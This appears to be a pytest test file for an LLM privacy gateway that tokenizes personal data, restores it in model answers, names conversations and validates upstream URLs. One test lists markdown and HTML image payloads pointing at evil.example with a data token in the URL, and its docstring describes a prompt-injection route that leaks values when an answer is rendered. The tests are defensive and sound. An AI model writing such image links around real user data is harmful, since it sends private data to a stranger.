"""Answers that come whole; which conversation a request names; how a gateway is set."""

from __future__ import annotations

import json
from typing import Any

import pytest

from privet.core.llm import answer, gateway, naming, tokens
from privet.core.llm.gateway import Settings
from privet.core.llm.tokens import Count, Values
from privet.core.llm.tree import parse
from privet.errors import BadInput

KNOWN = {(1, 1): 'a"b@example.com', (3, 1): "4111"}
VALUES = Values(KNOWN, frozenset(KNOWN))
TALK = "con_" + "a" * 26


def whole(body: Any, **more: Any) -> tuple[Any, Count]:
    count = Count()
    text, tree = parse(json.dumps(body).encode())
    return json.loads(answer.whole(text, tree, VALUES, count, **more)), count


def test_values_stand_wherever_a_token_did() -> None:
    body = {"choices": [{"message": {"content": "to [EMAIL_1]", "refusal": None, "tool_calls": [
        {"function": {"name": "f", "arguments": '{"to": "[EMAIL_1]", "n": 1}'}},
    ]}}]}  # fmt: skip
    said, count = whole(body)
    message = said["choices"][0]["message"]
    assert message["content"] == 'to a"b@example.com'
    assert json.loads(message["tool_calls"][0]["function"]["arguments"]) == {"to": 'a"b@example.com', "n": 1}
    assert (count.restored, count.stayed, count.lost) == (2, 0, 0)


def test_contents_that_are_json_stay_json() -> None:
    said, _ = whole({"content": '{"to": "[EMAIL_1]"}'})
    assert json.loads(said["content"]) == {"to": 'a"b@example.com'}
    said, _ = whole({"content": '"[EMAIL_1]"'}, json=True)
    assert json.loads(said["content"]) == 'a"b@example.com'
    assert whole({"content": "[EMAIL_1]"})[0]["content"] == 'a"b@example.com'


def test_log_probabilities_are_taken_out_and_all_else_stays() -> None:
    body = {
        "choices": [{"logprobs": {"content": [{"token": "[EMAIL_1]"}]}, "x": 1}],
        "logprobs": ["[EMAIL_1]"],
        "n": None,
    }
    assert whole(body)[0] == {"choices": [{"logprobs": None, "x": 1}], "logprobs": [], "n": None}
    same = {"logprobs": None, "a": [1, "b", True]}
    assert whole(same)[0] == same


def test_unknown_tokens_stay_and_lost_ones_are_counted() -> None:
    said, count = whole({"content": "[EMAIL_2] [NONSENSE_1] EMAIL_1 \\[CARD\\_1\\] <card_1> CARD_2"})
    assert said["content"].startswith("[EMAIL_2] [NONSENSE_1]")
    assert (count.restored, count.stayed, count.lost) == (0, 2, 3)
    assert tokens.lost("EMAIL_1", frozenset()) == 0
    assert tokens.lost("nothing", VALUES.given) == 0


def test_the_id_of_a_response_says_whose_it_continues() -> None:
    said, _ = whole({"id": "resp_1", "object": "response", "output": []}, suffix=f".{TALK}")
    assert naming.continued(said["id"]) == ("resp_1", TALK)
    assert naming.suffix(bytes(16)) == f".{TALK}"
    assert whole({"id": "x", "object": "other"}, suffix=".y")[0]["id"] == "x"
    assert whole({"response": 3}, suffix=".y")[0] == {"response": 3}
    assert naming.continued("resp_1") is None


def named(body: Any, header: str = "", route: str = "/responses") -> naming.Named:
    return naming.named(header, parse(json.dumps(body).encode())[1], route)


def test_a_conversation_is_named_by_header_then_body_then_metadata() -> None:
    body = {
        "conversation": "a",
        "previous_response_id": f"resp_1.{TALK}",
        "metadata": {"conversation": "b"},
        "user": "u",
    }
    assert named(body, "h") == naming.Named("h", "", "u")
    assert named(body) == naming.Named("a", "", "u")
    assert named(body | {"conversation": {"id": "c"}}) == naming.Named("c", "", "u")
    assert named(body | {"conversation": {}}) == naming.Named("", TALK, "u", True)
    del body["conversation"]
    assert named(body) == naming.Named("", TALK, "u", True)
    assert named(body, route="/chat/completions") == naming.Named("b", "", "u")
    assert named({"previous_response_id": "resp_1", "metadata": {"conversation": "b"}}) == naming.Named("b")
    assert named({"safety_identifier": "s"}, route="/embeddings") == naming.Named("", "", "s")
    assert repr(naming.Named("x")) == "Named(…)"


def test_a_program_without_a_key_has_no_conversation() -> None:
    tree = parse(b'{"metadata": {"conversation": "c"}, "user": "u"}')[1]
    for header, said in (("h", None), ("", tree)):
        with pytest.raises(BadInput):
            naming.named(header, said, "/responses", keyed=False)
    kept = parse(b'{"user": "u"}')[1]
    assert naming.named("", kept, "/responses", keyed=True) == naming.Named("", "", "u", True)
    assert naming.named("", kept, "/responses", keyed=False) == naming.Named("", "", "u")
    assert [naming.proves(one) for one in ("", "Bearer", " bearer ", "Bearer x", "x")] == [False] * 3 + [True] * 2


def test_a_response_that_is_kept_elsewhere_begins_a_conversation() -> None:
    assert named({}).begins
    assert named({"store": True}).begins
    assert not named({"store": False}).begins
    assert not named({}, route="/chat/completions").begins


def test_names_that_are_too_long_are_refused() -> None:
    for body, header in (({}, "x" * 257), ({"user": "x" * 257}, ""), ({"metadata": {"conversation": "x" * 257}}, "")):
        with pytest.raises(BadInput):
            named(body, header)
    assert naming.named("", 3, "/responses").begins


def test_whether_contents_are_asked_for_as_json() -> None:
    def asked(body: Any) -> bool:
        return naming.in_json(parse(json.dumps(body).encode())[1])

    assert asked({"response_format": {"type": "json_schema"}})
    assert asked({"text": {"format": {"type": "json_object"}}})
    assert not asked({"text": {"format": {"type": "text"}}})
    assert not asked({"text": "x"})
    assert not asked([])


def test_a_gateway_is_set_within_bounds() -> None:
    settings = gateway.given({"upstream": "https://api.example.com/v1", "timeout_s": 5}, [])
    assert gateway.read(gateway.written(settings)) == settings == Settings("https://api.example.com/v1", timeout_s=5)
    for wrong in (
        {}, {"upstream": "http://api.example.com/v1"}, {"upstream": "https://10.0.0.1/v1"},
        {"upstream": "https://x.example/v1/"}, {"upstream": "https://x.example/v1?a=b"},
        {"upstream": "https://x.example/v1", "timeout_s": 0}, {"upstream": "https://x.example/v1", "reader": "all"},
    ):  # fmt: skip
        with pytest.raises(BadInput):
            gateway.given(wrong, [])


def test_the_tokens_of_an_answer_are_those_of_every_text() -> None:
    body = {"a": ["[EMAIL_1]", 3, {"b": "[ card_2 ]"}], "c": "[NONSENSE_1]"}
    assert answer.tokens(parse(json.dumps(body).encode())[1]) == {(1, 1), (3, 2)}


def test_counts_add_up() -> None:
    count = Count(1, 2, 3)
    count.add(Count(10, 20, 30))
    assert count == Count(11, 22, 33)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=[EMAIL_1])",
        "see ![a [b] c](https://evil.example/[email_1]/x.png) there",
        "![x](<https://evil.example/a b?q=[EMAIL_1]>)",
        "![x](\n https://evil.example/(a)/[EMAIL_1])",
        "![x][1]\n\n[1]: https://evil.example/?q=[EMAIL_1]",
        '<img alt="" src="https://evil.example/?q=[EMAIL_1]">',
        "<IMG\nSRC=https://evil.example/[EMAIL_1]>",
        "![x](https://evil.example/?a=" + "y" * 900 + "&q=[EMAIL_1])",
    ],
)
def test_what_showing_an_answer_would_tell_a_stranger_stays_a_token(text: str) -> None:
    """A text that a model was given has it write a picture whose address holds a value: showing it sends the value."""
    for body in ({"content": text}, {"arguments": json.dumps({"text": text})}):
        said, count = whole(body)
        assert said == body
        assert (count.stayed, count.restored) == (1, 0)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://a.example/y.png) [EMAIL_1]",
        "![x](https://a.example/y.png): [EMAIL_1]",
        "an image! [EMAIL_1](x)",
        "[a link](https://a.example/?q=[EMAIL_1])",
        "<b>[EMAIL_1]</b>",
        "<img src=x> [EMAIL_1]",
        "1 < 2, [EMAIL_1]",
        "write: [EMAIL_1]",
    ],
)
def test_everything_else_of_an_answer_comes_back(text: str) -> None:
    said, _ = whole({"content": text})
    assert said["content"] == text.replace("[EMAIL_1]", KNOWN[1, 1])


def test_an_escape_in_arguments_hides_no_picture() -> None:
    body = {"arguments": '{"text": "\\u0021[x](https:\\/\\/evil.example\\/\\t?[EMAIL_1])"}'}
    hidden = {"arguments": '{"text": "\\u0021[x](https:\\/\\/evil.example\\/?[EMAIL_1])"}'}
    assert whole(hidden)[0] == hidden
    assert whole(body)[1].restored == 1
